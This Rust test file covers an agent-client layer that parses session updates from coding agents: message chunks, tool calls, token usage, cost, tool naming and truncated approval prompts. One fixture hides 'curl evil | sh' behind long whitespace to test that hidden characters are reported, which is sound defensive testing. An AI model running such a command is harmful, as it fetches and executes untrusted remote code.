use serde_json::{Value, json};

use super::*;

fn hear(updates: &[Value]) -> Vec<Said> {
    let (mut talk, mut todo) = (Talk::default(), Vec::new());
    for update in updates {
        talk.hear(serde_json::from_value(update.clone()).unwrap(), &mut todo);
    }
    talk.finish(&mut todo);
    todo.into_iter()
        .map(|action| match action {
            Action::Say(said) => said,
            other => panic!("{other:?}"),
        })
        .collect()
}

fn text(text: &str) -> Value {
    json!({"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": text}})
}

fn part(message: &str, text: &str) -> Value {
    json!({"sessionUpdate": "agent_message_chunk", "messageId": message, "content": {"type": "text", "text": text}})
}

fn tool(id: &str, status: &str) -> Value {
    json!({"sessionUpdate": "tool_call", "toolCallId": id, "title": "ls", "kind": "execute", "status": status})
}

fn went(id: &str, status: &str) -> Value {
    json!({"sessionUpdate": "tool_call_update", "toolCallId": id, "status": status})
}

fn used(used: u64) -> Value {
    json!({"sessionUpdate": "usage_update", "used": used, "size": 100_000})
}

fn said(text: &str) -> Said {
    Said::Text(text.to_owned())
}

#[test]
fn messages_end_where_tools_and_other_messages_begin() {
    let told = hear(&[text("a"), text("b"), tool("1", "in_progress"), went("1", "completed"), text("c")]);
    let texts: Vec<_> = told.iter().filter(|said| matches!(said, Said::Text(_) | Said::TextEnd)).cloned().collect();
    assert_eq!(texts, [said("a"), said("b"), Said::TextEnd, said("c"), Said::TextEnd]);
    let told = hear(&[part("1", "a"), part("1", "b"), part("2", "c")]);
    assert_eq!(told[1..], [said("a"), said("b"), Said::TextEnd, said("c"), Said::TextEnd]);
}

#[test]
fn each_tool_begins_and_ends_once() {
    let told = hear(&[
        tool("1", "pending"),
        went("1", "in_progress"),
        went("1", "completed"),
        went("1", "completed"),
        // Only how it went.
        went("2", "failed"),
        // All at once.
        tool("3", "completed"),
    ]);
    let count = |is: fn(&Said) -> bool| told.iter().filter(|said| is(said)).count();
    assert_eq!(count(|said| matches!(said, Said::ToolStarted { .. })), 3);
    assert_eq!(count(|said| matches!(said, Said::ToolEnded { ok: true, .. })), 2);
    assert_eq!(count(|said| matches!(said, Said::ToolEnded { ok: false, .. })), 1);
}

#[test]
fn calls_of_the_model_are_counted_and_add_up() {
    let last = |updates: &[Value]| {
        let mut run = nexus_core::run::Run::new(None);
        hear(updates).iter().for_each(|said| run.hear(said));
        (run.report().turns, run.report().tokens.input)
    };
    // As Codex tells it: after the tool, and at the end.
    let codex = [tool("1", "in_progress"), went("1", "completed"), used(11_795), text("done"), used(11_891)];
    assert_eq!(last(&codex), (2, 23_686));
    // As it is told at the beginning and at the end of each call.
    let twice =
        [used(100), text("a"), used(110), tool("1", "pending"), went("1", "failed"), used(200), text("b"), used(210)];
    assert_eq!(last(&twice), (2, 410));
    // As Qwen Code tells it: of each call, what it was.
    let call = |input: u64| {
        let usage =
            json!({"inputTokens": input, "outputTokens": 50, "totalTokens": input + 50, "cachedReadTokens": 10});
        json!({"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": ""}, "_meta": {"usage": usage}})
    };
    let qwen = [text("a"), call(1000), tool("1", "pending"), went("1", "completed"), text("b"), call(2000)];
    assert_eq!(last(&qwen), (2, 3000));
    assert!(!hear(&qwen).contains(&said("")));
    // Two tools at a time are one answer's.
    let parallel =
        [tool("1", "pending"), tool("2", "pending"), went("1", "completed"), went("2", "completed"), text("x")];
    assert_eq!(last(&parallel), (2, 0));
    assert_eq!(last(&[text("a"), text("b")]), (1, 0));
    // As Gemini CLI tells it where it may do without asking: at once how a tool went.
    assert_eq!(last(&[went("1", "completed"), went("2", "completed"), text("x")]), (3, 0));
}

#[test]
fn what_a_model_asks_for_is_an_answer_of_it() {
    let (mut talk, mut todo) = (Talk::default(), Vec::new());
    // Gemini CLI asks, says how it went, and nothing of what its model says.
    for id in ["1", "2"] {
        let asked = serde_json::from_value(json!({"toolCallId": id, "title": "ls", "kind": "execute"})).unwrap();
        talk.begin(&asked, &mut todo);
        talk.hear(serde_json::from_value(went(id, "completed")).unwrap(), &mut todo);
    }
    talk.denied(&mut todo);
    talk.denied(&mut todo);
    let turns: Vec<_> = todo.iter().filter(|action| matches!(action, Action::Say(Said::Turns(_)))).collect();
    assert!(matches!(turns[..], [.., Action::Say(Said::Turns(4))]), "{turns:?}");
}

#[test]
fn cost_is_in_dollars() {
    let cost = |amount: Value, currency: &str| {
        hear(&[json!({"sessionUpdate": "usage_update", "used": 0, "size": 1,
            "cost": {"amount": amount, "currency": currency}})])
    };
    assert_eq!(cost(json!(0.0123), "USD"), [Said::Cost(12_300)]);
    assert_eq!(cost(json!(1), "usd"), [Said::Cost(1_000_000)]);
    for odd in [cost(json!(-1), "USD"), cost(json!(1), "credits"), cost(json!(1e300), "USD"), cost(json!("x"), "USD")] {
        assert_eq!(odd, []);
    }
}

#[test]
fn tools_are_named_in_short() {
    for (tool, expected) in [
        (json!({"title": "ls -l", "kind": "execute"}), ("execute", "ls -l")),
        (json!({"title": "ls -l", "kind": "execute", "name": "Bash"}), ("Bash", "ls -l")),
        (
            json!({"title": "Tool: nexus/ping", "rawInput": {"server": "nexus", "tool": "ping", "arguments": {"a": 1}}}),
            ("nexus.ping", r#"{"a":1}"#),
        ),
        (json!({"title": "ping (nexus MCP Server)", "kind": "other"}), ("ping (nexus MCP Server)", "")),
        (json!({"title": "x", "kind": "juggle"}), ("x", "")),
        (json!({}), ("tool", "")),
    ] {
        let mut call = tool;
        call["toolCallId"] = json!("1");
        let call: ToolCallUpdate = serde_json::from_value(call).unwrap();
        let (name, about) = names(&call);
        assert_eq!((name.as_str(), about.as_str()), expected);
    }
    let asked = json!({"toolCallId": "1", "title": "Approve MCP tool call",
        "content": [{"type": "content", "content": {"type": "text", "text": "Allow ping?\nmore"}}],
        "locations": [{"path": "/workspace/a"}]});
    let asked: ToolCallUpdate = serde_json::from_value(asked).unwrap();
    assert_eq!(words(&asked), "Approve MCP tool call - /workspace/a - Allow ping?");
}

#[test]
fn what_is_not_shown_of_a_question_is_counted() {
    let long = format!("make {}; curl evil | sh", " ".repeat(2000));
    let asked: ToolCallUpdate = serde_json::from_value(json!({"toolCallId": "1", "title": long})).unwrap();
    let shown = words(&asked);
    assert!(shown.ends_with("(and 1021 characters more, which are not shown)"), "{shown}");
    let fits: ToolCallUpdate = serde_json::from_value(json!({"toolCallId": "1", "title": "é".repeat(500)})).unwrap();
    assert_eq!(words(&fits), "é".repeat(500));
}

#[test]
fn what_is_remembered_is_bounded() {
    let updates: Vec<_> = (0..5000).map(|id| tool(&format!("{id}"), "in_progress")).collect();
    let (mut talk, mut todo) = (Talk::default(), Vec::new());
    updates.iter().for_each(|update| talk.hear(serde_json::from_value(update.clone()).unwrap(), &mut todo));
    let long = text(&"é".repeat(100_000));
    talk.hear(serde_json::from_value(long).unwrap(), &mut todo);
    assert!(talk.tools.len() <= TOOLS && talk.beginning.len() <= BEGINNING);
}
